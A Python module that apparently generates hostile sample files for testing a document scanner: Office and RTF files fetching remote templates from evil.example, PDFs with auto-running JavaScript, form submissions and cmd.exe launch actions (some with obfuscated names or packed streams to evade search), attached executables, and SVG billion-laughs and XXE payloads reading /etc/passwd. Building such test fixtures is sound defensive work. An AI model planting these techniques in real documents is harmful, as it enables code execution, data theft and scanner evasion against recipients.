"""Documents that start a program or make a request."""

import io
from functools import partial

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from .. import making as make
from .kinds import Variants, kind


@kind("document that fetches from the web", "from the web")
def _fetches() -> Variants:
    for ending, folder in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt"), ("ppsx", "ppt")):
        for what, target in (
            ("attachedTemplate", "https://evil.example/t.dotm"), ("oleObject", "http://evil.example/x.html!"),
            ("frame", "ftp://evil.example/f"),
        ):  # fmt: skip
            more = {f"{folder}/_rels/settings.xml.rels": make.relation(what, target)}
            yield f"{what}.{ending}", partial(make.office, ending, more=more)
    yield "letter.rtf", partial(make.rtf, r"{\*\template http://evil.example/t.dot}")


@kind("RTF with programs", "embedded objects")
def _rtf_programs() -> Variants:
    for n in range(3):
        for inside in (
            r"{\object\objocx{\*\objdata 0105}}",
            r"{\object\objemb\objupdate{\*\objdata 0105}}",
            r"{\object\objemb{\*\objclass Package}{\*\objdata 01}}",
            r"{\object{\*\objclass Equation.3}}",
        ):
            yield f"plan{n}.rtf", partial(make.rtf, "words " * n * 100 + inside)


def _scripted(script: str, writer: PdfWriter) -> None:
    action = _action("/JavaScript", "/JS", script)
    listed = ArrayObject([TextStringObject("run"), action])
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): listed})})
    writer.root_object[NameObject("/Names")] = names


def _opening(script: str, writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", script)


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


@kind("PDF with scripts", "scripts that run")
def _pdf_scripts() -> Variants:
    for n in range(5):
        script = f"app.alert('{n}'); this.submitForm('http://evil.example/{n}');"
        yield f"form{n}.pdf", partial(make.pdf, seed=n, change=partial(_scripted, script))
        yield f"opening{n}.pdf", partial(make.pdf, seed=n, change=partial(_opening, script))


def _launching(spelt: str, writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action(spelt, "/F", "cmd.exe")


def _launch_spelt_otherwise(letter: int) -> bytes:
    name = b"Launch"
    spelt = name[:letter] + b"#%02x" % name[letter] + name[letter + 1 :]
    return make.pdf(change=partial(_launching, "/Launch")).replace(b"/Launch", b"/" + spelt)


@kind("PDF that starts programs", "starts other programs")
def _pdf_launch() -> Variants:
    for n in range(5):
        yield f"guide{n}.pdf", partial(make.pdf, seed=n, change=partial(_launching, "/Launch"))
    for letter in range(6):
        yield f"spelt{letter}.pdf", partial(_launch_spelt_otherwise, letter)


def _packed(change) -> bytes:
    """Like `make.pdf`, with all its objects inside compressed streams, where a search for words cannot find them."""
    import pikepdf

    written = io.BytesIO()
    with pikepdf.open(io.BytesIO(make.pdf(change=change))) as document:
        document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


@kind("PDF with packed scripts", "scripts that run")
def _packed_scripts() -> Variants:
    for n in range(5):
        yield f"form{n}.pdf", partial(_packed, partial(_scripted, f"app.alert('{n}')"))
        yield f"opening{n}.pdf", partial(_packed, partial(_opening, f"app.alert('{n}')"))


@kind("PDF that starts programs from within", "starts other programs")
def _packed_launch() -> Variants:
    for n in range(10):
        yield f"guide{n}.pdf", partial(_packed, partial(_launching, "/Launch"))


def _calling(what: str, writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action(f"/{what}", "/URI", "http://evil.example")


@kind("PDF that calls by itself", "by itself")
def _pdf_calls() -> Variants:
    for what in ("URI", "SubmitForm", "ImportData", "GoToR", "GoToE"):
        yield f"{what}.pdf", partial(make.pdf, change=partial(_calling, what))
        yield f"packed-{what}.pdf", partial(_packed, partial(_calling, what))


def _attaching(name: str, writer: PdfWriter) -> None:
    writer.add_attachment(name, b"MZ\x90\x00")


@kind("PDF with files attached", "other files attached")
def _pdf_attached() -> Variants:
    for name in ("run.exe", "a.pdf", "b.docm", "c.js", "d.zip", "e.bat", "f.html", "g.lnk", "h.txt", "i.vbs"):
        yield f"with-{name[0]}.pdf", partial(make.pdf, change=partial(_attaching, name))


@kind("drawing with entities", "it defines entities")
def _entities() -> Variants:
    for n in range(5):
        laughs = "".join(f'<!ENTITY a{m} "{f"&a{m - 1};" * 10 if m else "ha"}">' for m in range(n + 2))
        yield (
            f"laughs{n}.svg",
            partial(make.drawing, "<text>&a1;</text>", before=f"<!DOCTYPE svg [{laughs}]>"),
        )
        outside = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd{n}">]>'
        yield f"outside{n}.svg", partial(make.drawing, "<text>&x;</text>", before=outside)
